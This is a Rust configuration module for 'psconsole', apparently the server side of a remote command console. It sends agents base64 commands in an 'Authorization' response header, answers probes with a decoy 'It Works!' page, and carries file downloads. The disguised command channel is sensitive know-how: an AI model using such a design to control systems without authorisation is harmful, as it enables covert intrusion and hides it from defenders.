//! Configuration loading and defaults.
//!
//! Configuration is resolved in order of precedence (highest wins):
//!
//! 1. **Command line** — `--autocomplete` (and `--ssl`, which only selects
//!    the transport)
//! 2. **Environment variables** — `PSCONSOLE_COMMAND_HEADER`,
//!    `PSCONSOLE_CERT_DIR`, `PSCONSOLE_ACKNOWLEDGEMENT`
//! 3. **Config file** — path via `--config <path>`, or `psconsole.toml` in CWD
//! 4. **Compiled defaults** — see each field's default value below
//!
//! The TOML file mirrors the struct hierarchy:
//!
//! ```toml
//! [server]
//! command_header = "Authorization"    # response header carrying the next command
//! acknowledgement = "<html><body><h1>It Works!</h1></body></html>"
//! max_body_bytes = 67108864           # 64 MiB
//! autocomplete_on_start = false
//!
//! [tls]
//! cert_dir = "certificate"
//! common_name = "localhost"
//! validity_secs = 31557600            # one year
//! expiry_policy = "on_or_after"       # or "exact_day"
//!
//! [logging]
//! level = "warn"
//! ```

use std::path::Path;

use axum::http::HeaderName;
use serde::Deserialize;

use crate::certificate::ExpiryPolicy;

/// Config file looked up in the working directory when `--config` is absent.
pub const DEFAULT_CONFIG_FILE: &str = "psconsole.toml";

/// Longest accepted certificate validity (ten years).
const MAX_VALIDITY_SECS: u64 = 10 * 31_557_600;

/// Top-level configuration, deserialized from TOML.
#[derive(Debug, Clone, Default, Deserialize)]
pub struct Config {
    #[serde(default)]
    pub server: ServerConfig,
    #[serde(default)]
    pub tls: TlsConfig,
    #[serde(default)]
    pub logging: LoggingConfig,
}

/// Request/response settings for the agent channel.
#[derive(Debug, Clone, Deserialize)]
pub struct ServerConfig {
    /// Response header that carries the base64 next command (default
    /// `Authorization`).
    #[serde(default = "default_command_header")]
    pub command_header: String,
    /// Stock body returned to GET probes and to every cycle without an upload.
    #[serde(default = "default_acknowledgement")]
    pub acknowledgement: String,
    /// Largest accepted envelope in bytes (default 64 MiB). Downloads travel
    /// inside envelopes, so this caps download size. Larger envelopes are
    /// reported to the operator and the cycle continues as if the body were empty.
    #[serde(default = "default_max_body_bytes")]
    pub max_body_bytes: usize,
    /// Fetch the agent's completion vocabulary on the first cycle (default false).
    #[serde(default)]
    pub autocomplete_on_start: bool,
}

/// Credential settings for `--ssl`.
#[derive(Debug, Clone, Deserialize)]
pub struct TlsConfig {
    /// Directory holding `cacert.pem` and `private.pem` (default `certificate`).
    #[serde(default = "default_cert_dir")]
    pub cert_dir: String,
    /// Subject CN and DNS SAN of generated certificates (default `localhost`).
    #[serde(default = "default_common_name")]
    pub common_name: String,
    /// Lifetime of generated certificates in seconds (default one year).
    #[serde(default = "default_validity_secs")]
    pub validity_secs: u64,
    /// When a stored certificate is considered expired.
    #[serde(default)]
    pub expiry_policy: ExpiryPolicy,
}

/// Logging configuration.
#[derive(Debug, Clone, Deserialize)]
pub struct LoggingConfig {
    /// tracing filter level (default `warn`). Overridden by `RUST_LOG` env var.
    #[serde(default = "default_log_level")]
    pub level: String,
}

fn default_command_header() -> String {
    "Authorization".to_string()
}
fn default_acknowledgement() -> String {
    "<html><body><h1>It Works!</h1></body></html>".to_string()
}
fn default_max_body_bytes() -> usize {
    64 * 1024 * 1024 // 64 MiB
}
fn default_cert_dir() -> String {
    "certificate".to_string()
}
fn default_common_name() -> String {
    "localhost".to_string()
}
fn default_validity_secs() -> u64 {
    31_557_600
}
fn default_log_level() -> String {
    "warn".to_string()
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            command_header: default_command_header(),
            acknowledgement: default_acknowledgement(),
            max_body_bytes: default_max_body_bytes(),
            autocomplete_on_start: false,
        }
    }
}

impl Default for TlsConfig {
    fn default() -> Self {
        Self {
            cert_dir: default_cert_dir(),
            common_name: default_common_name(),
            validity_secs: default_validity_secs(),
            expiry_policy: ExpiryPolicy::default(),
        }
    }
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            level: default_log_level(),
        }
    }
}

impl Config {
    /// Load configuration with the precedence chain: env vars > file > defaults.
    ///
    /// If `path` is `Some`, that file must exist. Otherwise `psconsole.toml`
    /// in the current directory is used when present.
    pub fn load(path: Option<&str>) -> Result<Self, String> {
        let mut config = match path {
            Some(p) => Self::from_file(Path::new(p))?,
            None if Path::new(DEFAULT_CONFIG_FILE).exists() => {
                Self::from_file(Path::new(DEFAULT_CONFIG_FILE))?
            }
            None => Self::default(),
        };
        config.apply_env(|name| std::env::var(name).ok());
        config.validate()?;
        Ok(config)
    }

    fn from_file(path: &Path) -> Result<Self, String> {
        let content = std::fs::read_to_string(path)
            .map_err(|e| format!("Failed to read config file {}: {e}", path.display()))?;
        toml::from_str(&content)
            .map_err(|e| format!("Failed to parse config file {}: {e}", path.display()))
    }

    /// Apply environment overrides looked up through `var`.
    pub fn apply_env(&mut self, var: impl Fn(&str) -> Option<String>) {
        if let Some(header) = var("PSCONSOLE_COMMAND_HEADER") {
            self.server.command_header = header;
        }
        if let Some(dir) = var("PSCONSOLE_CERT_DIR") {
            self.tls.cert_dir = dir;
        }
        if let Some(body) = var("PSCONSOLE_ACKNOWLEDGEMENT") {
            self.server.acknowledgement = body;
        }
    }

    pub fn validate(&self) -> Result<(), String> {
        self.command_header()?;
        if self.server.max_body_bytes == 0 {
            return Err("server.max_body_bytes must be greater than zero".to_string());
        }
        if self.tls.validity_secs == 0 || self.tls.validity_secs > MAX_VALIDITY_SECS {
            return Err(format!(
                "tls.validity_secs must be between 1 and {MAX_VALIDITY_SECS}"
            ));
        }
        if self.tls.common_name.trim().is_empty() {
            return Err("tls.common_name must not be empty".to_string());
        }
        Ok(())
    }

    /// Parsed name of the response header carrying the next command.
    pub fn command_header(&self) -> Result<HeaderName, String> {
        HeaderName::from_bytes(self.server.command_header.as_bytes())
            .map_err(|e| format!("Invalid command_header {:?}: {e}", self.server.command_header))
    }
}
